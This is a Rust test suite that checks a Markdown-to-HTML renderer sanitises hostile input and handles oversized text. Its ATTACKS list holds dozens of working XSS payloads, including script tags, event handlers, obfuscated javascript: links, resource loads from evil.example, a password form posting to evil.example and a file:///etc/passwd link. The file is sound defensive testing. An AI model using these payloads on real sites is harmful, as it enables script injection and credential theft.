//! Tests that malicious Markdown becomes HTML that executes and loads nothing, within the time
//! limit.

use std::time::Duration;

use proptest::prelude::proptest;

use super::Renderer;
use crate::limits::MAX_INPUT;
use crate::plain_text::plain_html;

fn render(text: &str) -> String {
    // Effectively no timeout, so that a busy machine does not matter.
    let renderer = Renderer::with_time_limit(Duration::from_secs(3_600));
    renderer.render(text).expect("an hour is enough")
}

/// Returns the tags in a piece of HTML: their names, and attributes with values.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let end = rest.find('>').expect("a sanitized tag is closed");
        let (tag, after) = rest.split_at(end);
        rest = after;
        let (name, mut inside) = tag.split_once(' ').unwrap_or((tag, ""));
        let mut attributes = Vec::new();
        while let Some((attribute, after)) = inside.split_once("=\"") {
            let (value, after) = after.split_once('"').expect("a value is closed");
            attributes.push((attribute.trim().to_owned(), value.to_owned()));
            inside = after;
        }
        assert_eq!(
            inside.trim(),
            "",
            "<{tag}> should have only attributes with values"
        );
        tags.push((name.trim_start_matches('/').to_owned(), attributes));
    }
    tags
}

/// Asserts that all tags and attributes are allowed and have harmless values.
fn assert_inert(text: &str) {
    const TAGS: [&str; 26] = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "input",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let html = render(text);
    for (tag, attributes) in tags(&html) {
        assert!(
            TAGS.contains(&tag.as_str()),
            "<{tag}> from {text:?}: {html}"
        );
        for (name, value) in attributes {
            let is_harmless = match (tag.as_str(), name.as_str()) {
                ("a", "href") => ["http://", "https://", "mailto:"]
                    .iter()
                    .any(|it| value.to_lowercase().starts_with(it)),
                ("a", "target") => value == "_blank",
                ("a", "rel") => value == "noopener noreferrer nofollow ugc",
                ("a", "class") => value == "external-image",
                ("input", "type") => value == "checkbox",
                ("input", "checked" | "disabled") => value.is_empty(),
                ("ol", "start") => value.parse::<u64>().is_ok(),
                ("td" | "th", "align") => ["left", "center", "right"].contains(&value.as_str()),
                _ => false,
            };
            assert!(
                is_harmless,
                "{name}={value:?} on <{tag}> from {text:?}: {html}"
            );
        }
    }
}

const ATTACKS: [&str; 66] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" srcset=\"https://evil.example/x 2x\">",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(https://evil.example)\">x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=app name=document class=admin>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<x onclick=alert(1)>x</x>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#58;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](https://a.example/\"onmouseover=alert(1))",
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "[x](https://a.example/' onmouseover='alert(1))",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://a.example/x.png\" onerror=\"alert(1))",
    "![<img src=x onerror=alert(1)>](https://a.example/x.png)",
    "![`</a><script>alert(1)</script>`](https://a.example/x.png)",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [x] <script>alert(1)</script>",
    "https://a.example/<script>alert(1)</script>",
];

#[test]
fn attacks_are_rendered_inert() {
    for text in ATTACKS {
        assert_inert(text);
    }
}

#[test]
fn attacks_are_rendered_inert_inside_quotes_lists_and_tables() {
    for text in ATTACKS {
        assert_inert(&format!("> {text}"));
        assert_inert(&format!("- {text}"));
        assert_inert(&format!("| a |\n|---|\n| {text} |"));
        assert_inert(&format!("**{text}**"));
        assert_inert(&format!("# {text}"));
    }
}

#[test]
fn the_checker_detects_active_content() {
    let seen = tags("<a href=\"javascript:x\" onclick=\"y\"><script>");

    assert_eq!(seen[0].1[0].1, "javascript:x");
    assert_eq!(seen[0].1[1].0, "onclick");
    assert_eq!(seen[1].0, "script");
}

#[test]
fn a_text_beyond_the_limits_is_shown_as_plain_text() {
    let table = format!(
        "{}\n{}\n{}",
        "|a".repeat(500),
        "|-".repeat(500),
        "|\n".repeat(500)
    );
    for text in [
        ">".repeat(50_000),
        "> ".repeat(33),
        "- ".repeat(33),
        format!("{}- deep", " ".repeat(66)),
        "1. ".repeat(33),
        "[".repeat(50_000),
        "![".repeat(20_000),
        table,
        "a".repeat(MAX_INPUT + 1),
        "&".repeat(10_000),
        "£".repeat(10_000),
        (0..200)
            .map(|it| ["*a ", "**b "][it % 2])
            .collect::<String>()
            + &(0..200)
                .map(|it| [" b**", " a*"][it % 2])
                .collect::<String>(),
    ] {
        let html = render(&text);

        let beginning: String = text.chars().take(20).collect();
        assert_eq!(html, plain_html(&text), "{beginning}");
    }
}

#[test]
fn large_but_harmless_text_is_rendered() {
    let nested: String = (0..12)
        .map(|it| format!("{}- level {it}\n", "  ".repeat(it)))
        .collect();
    let table = format!(
        "|{}\n|{}\n{}",
        "a|".repeat(8),
        "-|".repeat(8),
        "|1|2|3|4|5|6|7|8|\n".repeat(200)
    );

    for (text, tag) in [
        (nested, "<ul>"),
        (table, "<table>"),
        ("**bold** text\n\n".repeat(4_000), "<strong>"),
    ] {
        let html = render(&text);

        assert!(html.contains(tag), "{}", &text[..20]);
    }
}

#[test]
fn images_are_never_loaded_by_the_page() {
    let pictures = include_str!("../../../tests/pictures.md").trim_end();
    let pictures: Vec<String> = pictures
        .split("\n----\n")
        .map(|it| it.replace("URL", "http://127.0.0.1:PORT/?q=secret"))
        .map(|it| it.replace("PORT", "9"))
        .collect();
    assert!(pictures.len() >= 30);

    for text in &pictures {
        assert_inert(text);
        let html = render(text);
        // The URL may occur in the visible text or in a link to click.
        for (tag, attributes) in tags(&html) {
            for (name, value) in attributes.iter().filter(|it| it.1.contains("secret")) {
                let place = (tag.as_str(), name.as_str());
                assert_eq!(place, ("a", "href"), "{value} from {text:?}: {html}");
            }
        }
    }
}

proptest! {
    #[test]
    fn any_text_is_rendered_inert(text in "[a\\[\\]()<>!`*_~|:#&;\"'=/ \\\\\n\t-]{0,80}") {
        assert_inert(&text);
    }
}
